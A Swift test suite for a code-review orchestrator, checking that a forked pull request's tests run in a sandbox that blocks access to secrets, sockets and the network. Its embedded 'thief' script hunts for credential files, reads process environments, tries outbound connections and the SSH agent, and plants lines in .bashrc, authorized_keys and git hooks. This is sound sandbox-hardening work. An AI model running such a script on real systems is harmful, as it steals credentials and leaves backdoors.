import Foundation
import OrchTestSupport
import Platform
import Processes
import SystemPackage
import Testing

private func sandboxWorks() async -> Bool {
  let availability = await SandboxTrial.shared.availability(ProcessInfo.processInfo.environment)
  return if case .works = availability { true } else { false }
}

/// A fork's pull request whose code looks for what is not its own.
@Suite(.timeLimit(.minutes(3))) struct ForkSandboxTests {
  /// Prints what it finds, also written backwards, leaves it in the worktree, and fails.
  private static let thief = """
    {
    home=$(awk -F: -v me="$(id -u)" '$3 == me { print $6 }' /etc/passwd)
    find "$HOME" "$home" "$PWD/.." "$PWD/../.." "$SCRATCH" /tmp /home /run -maxdepth 5 -type f -size -64k \\
      ! -name loot.txt ! -name tests.sh -exec grep -hsI canary- {} + | head -50
    cat /proc/[0-9]*/environ /proc/self/mountinfo | tr '\\0' '\\n' | grep -a -e canary- -e token-of
    git config --list | grep canary-; git log --all --format=%H | wc -l
    env | grep -e canary- -e token-of
    python3 - <<'END'
    import os, socket
    for host, port in [("127.0.0.1", int(os.environ.get("PORT") or 9)), ("1.1.1.1", 53)]:
        try: print("connected", socket.create_connection((host, port), 3).send(b"GET /canary-sent HTTP/1.0\\r\\n\\r\\n"))
        except OSError as error: print(error)
    try:
        agent = socket.socket(socket.AF_UNIX); agent.connect(os.environ.get("SSH_AUTH_SOCK") or "/nowhere")
        print("canary" + "-agent reached")
    except OSError as error: print(error)
    END
    for place in "$HOME/.bashrc" "$HOME/.ssh/authorized_keys" "$(git rev-parse --git-common-dir)/config" \\
      "$(git rev-parse --git-common-dir)/hooks/post-checkout" "$SCRATCH/planted"; do
      mkdir -p "$(dirname "$place")"; echo 'canary-planted' >> "$place"
    done
    } > loot.txt 2>&1
    cat loot.txt; rev loot.txt
    exit 1
    """

  private static let canaries = [".ssh/id_rsa", ".netrc", ".aws/credentials", ".config/gh/hosts.yml", "notes.txt"]

  private func openFork(_ scene: ForgeWorld, script: String) async throws -> FakeForge.PullRequest {
    let (world, repository) = (scene.world, scene.world.repository)
    let fork = repository.scratch.path.appending("fork.git")
    try await repository.git("clone", "--quiet", "--bare", world.remote.string, fork.string)
    let clone = repository.scratch.path.appending("mallory")
    try await repository.git("clone", "--quiet", fork.string, clone.string)
    try repository.write("tests.sh", script, in: clone)
    try await repository.git("add", "-A", in: clone)
    try await repository.git("commit", "--quiet", "-m", "m", in: clone)
    try await repository.git("push", "--quiet", "origin", "HEAD:topic", in: clone)
    let pull = try await scene.forge.openFromFork(
      .init("mallory/widget", repository: fork), title: "m", head: "topic", base: "main", author: "mallory")
    // As GitHub does.
    try await repository.git(
      "push", "--quiet", "--force", world.remote.string, "HEAD:refs/pull/\(pull.number)/head", in: clone)
    try FileManager.default.removeItem(atPath: clone.string)
    return pull
  }

  @Test(.enabled("bubblewrap does not work here") { await sandboxWorks() })
  func `a fork's tests reach no secret, no socket and no network, and plant nothing`() async throws {
    try await ForgeWorld.with { scene in
      let (world, repository) = (scene.world, scene.world.repository)
      for file in Self.canaries {
        try repository.write(file, "canary-\(file)\n", in: repository.hermetic.home)
      }
      try repository.write(".env", "KEY=canary-dotenv\n")
      try await repository.git("config", "http.extraheader", "X-Key: canary-header")
      let (agent, listener) = (
        repository.scratch.path.appending("agent.sock"), repository.scratch.path.appending("port")
      )
      let server = Process()
      server.executableURL = URL(fileURLWithPath: "/usr/bin/env")
      server.arguments = [
        "python3", "-c",
        """
        import socket, os, select
        a = socket.socket(socket.AF_UNIX); a.bind('\(agent)'); a.listen()
        n = socket.socket(); n.bind(('127.0.0.1', 0)); n.listen()
        open('\(listener).new', 'w').write(str(n.getsockname()[1])); os.rename('\(listener).new', '\(listener)')
        while True:
            for s in select.select([a, n], [], [])[0]: s.accept(); open('\(listener).reached', 'a').write('x')
        """,
      ]
      server.standardOutput = FileHandle.nullDevice
      server.standardError = FileHandle.nullDevice
      try server.run()
      defer { kill(server.processIdentifier, SIGKILL) }
      try await world.wait(for: listener)
      let port = try String(contentsOfFile: listener.string, encoding: .utf8)

      let pull = try await openFork(scene, script: Self.thief)
      try world.script("{\"pr-\(pull.number)\": [[\(ReviewTests.approval)], [\(ReviewTests.approval)]]}")
      let home = repository.hermetic.home
      try await world.set("project.testCommand", "SCRATCH=\(repository.scratch.path) PORT=\(port) sh tests.sh")
      try await world.set("worktree.setup", "sh tests.sh || rm loot.txt")
      try await world.set("agent.maxRetries", "0")
      let result = try await world.gitOrch(
        "review", "--pr", "\(pull.number)", "-y",
        environment: ["SSH_AUTH_SOCK": agent.string, "ORCH_CANARY_OFF": "1"])
      #expect(result.status == 1, "\(result.output)\(result.errors)")
      #expect(try await world.statuses() == ["pr-\(pull.number)": "tests-failed"], "\(result.output)")

      // They did run, and said what they saw.
      let recorded = try scene.recordedTexts()
      #expect(recorded.contains("Connection refused") || recorded.contains("unreachable"), "\(recorded)")
      let posted = try #require(try await scene.forge.pullRequest(pull.number))
      let texts =
        posted.reviews.map(\.body) + posted.comments.map(\.body) + posted.reviews.flatMap { $0.comments.map(\.body) }
      for text in texts + [recorded, result.output, result.errors] {
        // Its own program holds the word, as a pattern.
        for secret in Self.canaries.map({ "canary-\($0)" }) + [
          "canary-dotenv", "canary-header", "canary-agent reached", ForgeWorld.token,
        ] {
          #expect(!text.contains(secret), "\(secret)")
          #expect(!text.contains(String(secret.reversed())), "\(secret)")
        }
      }
      #expect(!FileManager.default.fileExists(atPath: "\(listener).reached"))
      // Nor in what was saved of the worktree.
      let saved = try await repository.git("for-each-ref", "--format=%(refname)", "refs/orchestrator/saved")
      for reference in saved.split(separator: "\n").map(String.init) {
        let loot = (try? await repository.git("show", "\(reference):loot.txt")) ?? ""
        #expect(!loot.contains("canary-.") && !loot.contains("canary-dotenv") && !loot.contains("canary-header"))
      }
      for file in [".bashrc", ".ssh/authorized_keys"] {
        #expect(!FileManager.default.fileExists(atPath: home.pushing(FilePath(file)).string))
      }
      #expect(!FileManager.default.fileExists(atPath: repository.scratch.path.appending("planted").string))
      #expect(!FileManager.default.fileExists(atPath: repository.path.pushing(".git/hooks/post-checkout").string))
      #expect(try await !repository.git("config", "--list").contains("planted"))
      #expect(try world.survivors().isEmpty)
    }
  }

  @Test func `where a sandbox is required and none can be made, no agent is paid and nothing of the fork runs`()
    async throws
  {
    try await ForgeWorld.with { scene in
      let world = scene.world
      let mark = world.repository.scratch.path.appending("ran")
      let pull = try await openFork(scene, script: "touch \(mark)")
      try world.addProgram("bin/bwrap", "echo 'bwrap: No permissions to create new namespace' >&2; exit 1")
      try await world.set("project.testCommand", "sh tests.sh")
      try await world.set("worktree.setup", "sh tests.sh")
      try await world.set("sandbox.mode", "required")
      try world.script("{\"pr-\(pull.number)\": [[\(ReviewTests.approval)]]}")
      let path = "\(world.repository.scratch.path)/bin:\(world.environment["PATH"] ?? "")"
      let result = try await world.orch("review", "--pr", "\(pull.number)", "-y", environment: ["PATH": path])
      #expect(result.status == 128)
      #expect(result.errors.contains("fatal: a fork's code may only run in a sandbox"), "\(result.errors)")
      #expect(result.errors.contains("hint: "))
      #expect(!FileManager.default.fileExists(atPath: mark.string))
      #expect(!FileManager.default.fileExists(atPath: world.records.string))

      // Wanted only, it is reported and done without.
      try await world.set("sandbox.mode", "auto")
      let without = try await world.orch("review", "--pr", "\(pull.number)", "-y", environment: ["PATH": path])
      #expect(
        (without.output + without.errors).contains("a fork's code will run without a sandbox"), "\(without.errors)")
      #expect(FileManager.default.fileExists(atPath: mark.string))
    }
  }

  @Test func `the reviewer of a fork does not run its tests outside a sandbox`() async throws {
    try await ForgeWorld.with { scene in
      let world = scene.world
      let pull = try await openFork(scene, script: "exit 0")
      try await world.set("project.testCommand", "sh tests.sh")
      try world.script("{\"pr-\(pull.number)\": [[\(ReviewTests.approval)], [\(ReviewTests.approval)]]}")
      func told() async throws -> (allowed: String, prompt: String) {
        try? FileManager.default.removeItem(atPath: world.records.string)
        try await world.orch("review", "--pr", "\(pull.number)", "-y")
        let record = try world.record("pr-\(pull.number)", attempt: 1)
        let arguments = record["arguments"] as? [String] ?? []
        return (arguments.first { $0.hasPrefix("--allowedTools=") } ?? "", record["prompt"] as? String ?? "")
      }
      let first = try await told()
      #expect(!first.allowed.contains("tests.sh") && first.prompt.contains("Do not run it"))
    }
  }
}

/// Runs whose agents and set-ups are in a sandbox.
@Suite(.enabled("bubblewrap does not work here") { await sandboxWorks() }, .timeLimit(.minutes(3)))
struct SandboxedRunTests {
  private func world() async throws -> OrchWorld {
    let world = try await OrchWorld.make()
    try await world.set("sandbox.mode", "required")
    try await world.set("sandbox.agents", "true")
    // Where the scripted agent keeps its own.
    for name in ["agent-state", "records", "marks"] {
      let folder = world.repository.scratch.path.appending(name)
      try FileManager.default.createDirectory(atPath: folder.string, withIntermediateDirectories: true)
      try await world.repository.git("config", "--add", "orchestrator.sandbox.writable", folder.string)
    }
    try await world.repository.git(
      "config", "--add", "orchestrator.sandbox.writable", world.repository.scratch.path.appending("agents.json").string)
    return world
  }

  @Test func `a task is set up and done in a sandbox, next to another`() async throws {
    let world = try await world()
    try world.script(RunTests.edits("a", "b"))
    try world.plan("a", "b")
    try await world.set("worktree.setup", "echo set up; echo x > \(world.root)/planted; true")
    let result = try await world.orch("run")
    #expect(result.status == 0, "\(result.output)\(result.errors)")
    #expect(try await world.statuses() == ["a": "success", "b": "success"])
    #expect(try await world.remoteTip("feature/a") != nil)
    #expect(!FileManager.default.fileExists(atPath: world.root.appending("planted").string))
    #expect(try world.survivors().isEmpty)
  }

  @Test(arguments: [SIGINT, SIGKILL])
  func `a run that was cut short continues in the agent's own conversation`(signal: Int32) async throws {
    let world = try await world()
    let mark = world.repository.scratch.path.pushing("marks/begun")
    try world.script(
      """
      {"a": [[{"write": {"path": "a.txt", "content": "half\\n"}}, {"touch": "\(mark)"}, "hang"],
             [{"append": {"path": "a.txt", "content": "whole\\n"}}, {"commit": "feat: a"}]]}
      """)
    try world.plan("a")
    try await world.gitOrch("run") { process in
      try await world.wait(for: mark)
      world.send(signal, to: process)
    }
    try await world.killAgents()
    let result = try await world.orch("run", "--continue")
    #expect(result.status == 0, "\(result.output)\(result.errors)")
    let tip = try #require(try await world.remoteTip("feature/a"))
    #expect(try await world.repository.git("show", "\(tip):a.txt") == "half\nwhole")
    #expect((try world.record("a", attempt: 2)["arguments"] as? [String])?.contains("--resume") == true)
    #expect(try world.survivors().isEmpty)
  }
}
